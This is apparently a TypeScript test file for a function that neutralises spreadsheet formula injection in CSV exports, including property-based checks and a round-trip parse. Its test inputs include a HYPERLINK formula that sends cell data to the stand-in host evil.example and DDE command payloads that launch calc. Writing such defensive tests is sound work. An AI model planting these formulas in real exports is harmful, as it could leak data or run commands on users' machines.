import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { looksLikeFormula, neutraliseCell, toSafeCsv } from './cells';

describe('neutraliseCell', () => {
  it('prefixes a quote to text starting with = + - @, tab or carriage return', () => {
    expect(neutraliseCell('=HYPERLINK("http://evil.example/?"&A2,"Click")')).toBe(`'=HYPERLINK("http://evil.example/?"&A2,"Click")`);
    expect(neutraliseCell('+62 21 555 0100')).toBe("'+62 21 555 0100");
    expect(neutraliseCell('-2+3+cmd|" /C calc"!A0')).toBe(`'-2+3+cmd|" /C calc"!A0`);
    expect(neutraliseCell('@SUM(1+1)')).toBe("'@SUM(1+1)");
    expect(neutraliseCell('\t=1+1')).toBe("'\t=1+1");
    expect(neutraliseCell('\r=1+1')).toBe("'\r=1+1");
    expect(neutraliseCell('＝1+1')).toBe("'＝1+1");
  });

  it('leaves other text, and numbers, booleans, dates and empty cells, as they are', () => {
    for (const v of ['José Ramos-Horta', 'Nguyễn Văn An', ' =not a formula after a space', 'a=b', '', "'already quoted", 'ส่วนราชการ']) expect(neutraliseCell(v)).toBe(v);
    expect(neutraliseCell(-5)).toBe(-5);
    expect(neutraliseCell(true)).toBe(true);
    expect(neutraliseCell(null)).toBe(null);
    expect(neutraliseCell(undefined)).toBe(undefined);
    const d = new Date(0);
    expect(neutraliseCell(d)).toBe(d);
  });

  it('never returns text a spreadsheet reads as a formula, and changes nothing but the start', () => {
    fc.assert(
      fc.property(fc.string(), (s) => {
        const out = neutraliseCell(s);
        expect(looksLikeFormula(out)).toBe(false);
        expect(out === s || out === `'${s}`).toBe(true);
        expect(out !== s).toBe(looksLikeFormula(s));
      }),
    );
  });
});

describe('toSafeCsv', () => {
  it('writes a CSV that reads back to the neutralised cells, quotes and line breaks intact', () => {
    const csv = toSafeCsv([
      ['name', 'note', 'years', 'when'],
      ['=cmd|"/C calc"!A0', 'said "yes",\nthen left', 12, new Date(Date.UTC(2026, 0, 2))],
      ['Siti', null, -3, undefined],
    ]);
    expect(csv.startsWith('\ufeff')).toBe(true);
    const back = Papa.parse<string[]>(csv.slice(1), { newline: '\r\n' }).data;
    expect(back).toEqual([
      ['name', 'note', 'years', 'when'],
      [`'=cmd|"/C calc"!A0`, 'said "yes",\nthen left', '12', '2026-01-02T00:00:00.000Z'],
      ['Siti', '', '-3', ''],
    ]);
  });
});
